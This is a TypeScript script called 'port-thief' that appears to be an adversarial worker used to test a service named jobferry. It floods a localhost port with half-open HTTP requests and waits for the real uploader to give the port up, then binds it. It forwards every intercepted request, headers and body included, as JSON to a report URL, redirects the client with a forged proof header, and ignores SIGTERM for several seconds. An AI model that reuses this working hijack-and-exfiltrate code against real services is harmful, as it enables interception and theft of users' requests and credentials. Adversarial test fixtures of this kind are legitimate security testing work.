import { createServer } from 'node:http'
import { connect, type Socket } from 'node:net'

/*
 * A worker that wants the uploader's port: `node port-thief.ts PORT FLOOD REPORT REDIRECT`. It
 * opens FLOOD half-open requests to 127.0.0.1:PORT, then tries to listen there until it succeeds.
 * It sends each request that comes to the URL REPORT as JSON (StolenRequest) and redirects it to
 * REDIRECT. It goes on for 8 s after SIGTERM. Its log says `flooded` and `bound`. Imports nothing
 * of the project.
 */

export interface StolenRequest {
  method: string
  url: string
  headers: Record<string, string>
  body: string
}

const [port = '', flood = '', report = '', redirect = ''] = process.argv.slice(2)
const sockets: Socket[] = []

process.once('SIGTERM', () => setTimeout(() => process.exit(0), 8000))

function openHalf(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(Number(port), '127.0.0.1', () => {
      socket.write('POST /end HTTP/1.1\r\nHost: x\r\nContent-Length: 10\r\n\r\nx')
      resolve()
    })
    sockets.push(socket)
    socket.on('error', () => resolve())
  })
}

async function floodPort(): Promise<void> {
  for (let opened = 0; opened < Number(flood); opened += 100) {
    await Promise.all(Array.from({ length: 100 }, openHalf))
  }
  console.log('flooded')
}

function steal(): void {
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = []
    for await (const chunk of request) chunks.push(chunk as Buffer)
    const { method, url, headers } = request
    const stolen = { method, url, headers, body: Buffer.concat(chunks).toString('utf8') }
    await fetch(report, { method: 'POST', body: JSON.stringify(stolen) }).catch(() => undefined)
    response.writeHead(307, { location: redirect, 'jobferry-proof': '0'.repeat(64) }).end()
  })
  server.on('error', () => setTimeout(() => server.listen(Number(port)), 1))
  server.on('listening', () => console.log('bound'))
  server.listen(Number(port))
}

if (import.meta.main) {
  await floodPort()
  setTimeout(() => {
    for (const socket of sockets) socket.destroy()
  }, 10_000)
  steal()
}
